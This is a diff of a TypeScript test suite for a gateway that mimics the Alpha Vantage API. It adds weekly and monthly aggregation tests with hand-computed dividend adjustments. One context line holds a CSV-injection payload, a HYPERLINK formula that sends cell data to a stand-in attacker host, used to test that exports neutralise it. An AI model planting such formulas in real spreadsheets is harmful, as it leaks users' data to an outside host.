@@ -50,6 +50,48 @@ function ibmHistory(older: number): Bar[] {
   return [...IBM_BARS, ...Array.from({ length: older }, (_, i) => ({ date: day(i), open: '120.0000', high: '121.0000', low: '119.0000', close: `120.${String(i).padStart(2, '0')}00`, volume: 1000 + i }))];
 }
 
+/**
+ * Five sessions over two weeks and two months (4 July 2022 was a holiday), newest first as a vendor gives
+ * them, with a dividend of 0.5 going ex on 5 July. By hand: the week of 27 June is dated 1 July (open 10,
+ * high 13, low 9, close 11.5, volume 600), the week of 4 July is dated 6 July (11.5, 15, 11, 14, 900); June
+ * is dated 30 June (10, 13, 9, 12, 300), July 6 July (12, 15, 11, 14, 1200). Adjusted for the dividend,
+ * closes before 5 July are × (1 − 0.5 / 11.5): 1 July's 11.5 is 11, 30 June's 12 is 11.478261 (6 decimals).
+ */
+const TWO_WEEKS: Bar[] = [
+  { date: '2022-07-06', open: '13.7500', high: '15.0000', low: '13.0000', close: '14.0000', volume: 500 },
+  { date: '2022-07-05', open: '11.5000', high: '14.0000', low: '11.0000', close: '13.7500', volume: 400 },
+  { date: '2022-07-01', open: '12.0000', high: '12.5000', low: '11.0000', close: '11.5000', volume: 300 },
+  { date: '2022-06-30', open: '11.0000', high: '13.0000', low: '10.0000', close: '12.0000', volume: 200 },
+  { date: '2022-06-29', open: '10.0000', high: '12.0000', low: '9.0000', close: '11.0000', volume: 100 },
+];
+const bar = (open: string, high: string, low: string, close: string, volume: string) => ({ '1. open': open, '2. high': high, '3. low': low, '4. close': close, '5. volume': volume });
+const adjustedBar = (open: string, high: string, low: string, close: string, adjusted: string, volume: string, dividend: string) => ({
+  '1. open': open, '2. high': high, '3. low': low, '4. close': close, '5. adjusted close': adjusted, '6. volume': volume, '7. dividend amount': dividend,
+});
+const meta = (information: string) => ({ '1. Information': information, '2. Symbol': 'WK', '3. Last Refreshed': '2022-07-06', '4. Time Zone': 'US/Eastern' });
+const WEEKLY = {
+  'Meta Data': meta('Weekly Prices (open, high, low, close) and Volumes'),
+  'Weekly Time Series': { '2022-07-06': bar('11.5000', '15.0000', '11.0000', '14.0000', '900'), '2022-07-01': bar('10.0000', '13.0000', '9.0000', '11.5000', '600') },
+};
+const MONTHLY = {
+  'Meta Data': meta('Monthly Prices (open, high, low, close) and Volumes'),
+  'Monthly Time Series': { '2022-07-06': bar('12.0000', '15.0000', '11.0000', '14.0000', '1200'), '2022-06-30': bar('10.0000', '13.0000', '9.0000', '12.0000', '300') },
+};
+const WEEKLY_ADJUSTED = {
+  'Meta Data': meta('Weekly Adjusted Prices and Volumes'),
+  'Weekly Adjusted Time Series': {
+    '2022-07-06': adjustedBar('11.5000', '15.0000', '11.0000', '14.0000', '14.0000', '900', '0.5000'),
+    '2022-07-01': adjustedBar('10.0000', '13.0000', '9.0000', '11.5000', '11.000000', '600', '0.0000'),
+  },
+};
+const MONTHLY_ADJUSTED = {
+  'Meta Data': meta('Monthly Adjusted Prices and Volumes'),
+  'Monthly Adjusted Time Series': {
+    '2022-07-06': adjustedBar('12.0000', '15.0000', '11.0000', '14.0000', '14.0000', '1200', '0.5000'),
+    '2022-06-30': adjustedBar('10.0000', '13.0000', '9.0000', '12.0000', '11.478261', '300', '0.0000'),
+  },
+};
+
 describe.each(testEngines())('the Alpha Vantage gateway on %s', (engine) => {
   async function setup(env: Record<string, string> = {}) {
     const upstream = await startUpstream();
@@ -242,6 +284,27 @@ describe.each(testEngines())('the Alpha Vantage gateway on %s', (engine) => {
     expect(upstream.capabilityCalls.alphavantage.search).toEqual(['intern']);
   });
 
+  it('when weekly and monthly series are asked, adjusted or not, then they are made from the stored daily bars, as computed by hand, with no upstream call of their own', async () => {
+    const { upstream, key, query } = await setup();
+    upstream.set('alphavantage', 'WK', { kind: 'bars', bars: TWO_WEEKS });
+    upstream.setFor('alphavantage', 'splits', 'WK', { kind: 'splits', splits: [] });
+    upstream.setFor('alphavantage', 'dividends', 'WK', { kind: 'dividends', dividends: [{ exDate: '2022-07-05', amount: '0.5' }] });
+    const expected = { TIME_SERIES_WEEKLY: WEEKLY, TIME_SERIES_MONTHLY: MONTHLY, TIME_SERIES_WEEKLY_ADJUSTED: WEEKLY_ADJUSTED, TIME_SERIES_MONTHLY_ADJUSTED: MONTHLY_ADJUSTED };
+    for (const [name, answer] of Object.entries(expected)) {
+      const response = await query(`function=${name}&symbol=WK&apikey=${key}`);
+      expect(response.body, name).toBe(JSON.stringify(answer));
+    }
+    const csvAnswer = await query(`function=TIME_SERIES_MONTHLY_ADJUSTED&symbol=WK&datatype=csv&apikey=${key}`);
+    expect(csvAnswer.body).toBe(
+      'timestamp,open,high,low,close,adjusted_close,volume,dividend_amount\r\n' +
+        '2022-07-06,12.0000,15.0000,11.0000,14.0000,14.0000,1200,0.5000\r\n' +
+        '2022-06-30,10.0000,13.0000,9.0000,12.0000,11.478261,300,0.0000\r\n',
+    );
+    // One daily series and one pair of actions, whatever was asked of them.
+    expect(upstream.calls.alphavantage).toEqual(['WK']);
+    expect(upstream.capabilityCalls.alphavantage).toMatchObject({ splits: ['WK'], dividends: ['WK'] });
+  });
+
   it('when a vendor names a match like a spreadsheet formula, then the CSV serves it inert, quoted and prefixed with an apostrophe; the JSON as given', async () => {
     const { upstream, key, query } = await setup();
     const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
@@ -326,7 +389,7 @@ describe.each(testEngines())('the Alpha Vantage gateway on %s', (engine) => {
 });
 
 describe.each(testEngines())('the published Alpha Vantage client (alphavantage 2.5.0) on %s', (engine) => {
-  it('when only its base URL is changed, then quote, daily and daily CSV work, and an unknown symbol throws', async () => {
+  it('when only its base URL is changed, then quote, daily, weekly, monthly and their CSV work, and an unknown symbol throws', async () => {
     const upstream = await startUpstream();
     upstream.set('alphavantage', 'IBM', { kind: 'bars', bars: IBM_BARS });
     upstream.set('alphavantage', 'NOPE', { kind: 'unknown' });
@@ -349,6 +412,15 @@ describe.each(testEngines())('the published Alpha Vantage client (alphavantage 2
       { timestamp: '2022-07-29', open: '129.5200', high: '131.0000', low: '129.3100', close: '130.7900', volume: '4236283' },
       { timestamp: '2022-07-28', open: '128.2000', high: '129.5500', low: '127.6600', close: '129.2200', volume: '3895133' },
       { timestamp: '2022-07-27', open: '128.0300', high: '129.0100', low: '127.3100', close: '128.0800', volume: '3544716' },
+    ]);
+    upstream.set('alphavantage', 'WK', { kind: 'bars', bars: TWO_WEEKS });
+    expect(await av.data.weekly('WK')).toStrictEqual(WEEKLY);
+    expect(await av.data.monthly('WK')).toStrictEqual(MONTHLY);
+    // The client reads the line end after the last row as one row more, of empty fields, as it does Alpha Vantage's.
+    const weeks = await av.data.weekly<Record<string, string>[]>('WK', 'compact', 'csv');
+    expect(weeks.slice(0, 2)).toStrictEqual([
+      { timestamp: '2022-07-06', open: '11.5000', high: '15.0000', low: '11.0000', close: '14.0000', volume: '900' },
+      { timestamp: '2022-07-01', open: '10.0000', high: '13.0000', low: '9.0000', close: '11.5000', volume: '600' },
     ]);
     const { bestMatches } = (await av.data.search('intern')) as { bestMatches: Record<string, string>[] };
     expect(bestMatches.map((match) => [match['1. symbol'], match['2. name']])).toEqual([['IBM', 'International Business Machines Corp']]);
